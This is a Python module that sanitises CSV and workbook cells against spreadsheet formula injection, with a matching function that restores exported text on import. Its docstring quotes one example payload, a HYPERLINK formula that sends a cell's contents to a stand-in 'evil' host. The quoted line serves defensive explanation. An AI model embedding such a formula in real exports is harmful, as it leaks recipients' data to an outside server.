"""Cells that a spreadsheet shows as text and never runs as a formula.

Excel, LibreOffice and Google Sheets treat text beginning with `=`, `+`, `-` or `@` (and,
in some versions, a tab or carriage return before one) as a formula, so a title such as
`=HYPERLINK("http://evil?leak="&A1,"x")` in a CSV or workbook we hand out would run on
the reader's machine ("CSV injection"). Every CSV and Excel export passes each value
through `safe_cell`, which does what OWASP recommends: it puts a single quote before such
text, so the reader sees the text (with the quote) and nothing runs, whether the file is
a CSV, a workbook, or a workbook saved again as CSV. Numbers, dates and booleans are
left as they are: a negative number is a number, not text.

Our imports undo it with `restore_cell`, so export → edit → import gives back the text
that was exported (a title `=1+1` stays `=1+1`). Text that already starts with quotes
before a formula character gets one more, so that it too comes back exactly.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["FORMULA_START", "restore_cell", "safe_cell", "safe_row"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Any leading quotes, then a character that starts a formula.
_FORMULA = re.compile(r"'*[=+\-@\t\r]")
# Control characters a workbook cannot hold (openpyxl refuses them); tab, newline and
# carriage return are allowed.
_ILLEGAL = re.compile(r"[\000-\010\013\014\016-\037]")


def safe_cell(value: object) -> object:
    """`value` as a CSV field or workbook cell: text that would start a formula gets a
    leading quote; anything that is not text comes back unchanged."""
    if not isinstance(value, str):
        return value
    # Illegal characters first: removing one after the check could uncover an "=".
    text = _ILLEGAL.sub("", value) if _ILLEGAL.search(value) else value
    return f"'{text}" if _FORMULA.match(text) else text


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]


def restore_cell(value: object) -> object:
    """A cell read back from one of our exports, without the quote `safe_cell` added: one
    quote is removed, and only from text that `safe_cell` would have quoted."""
    if isinstance(value, str) and value[:1] == "'" and _FORMULA.match(value, 1):
        return value[1:]
    return value
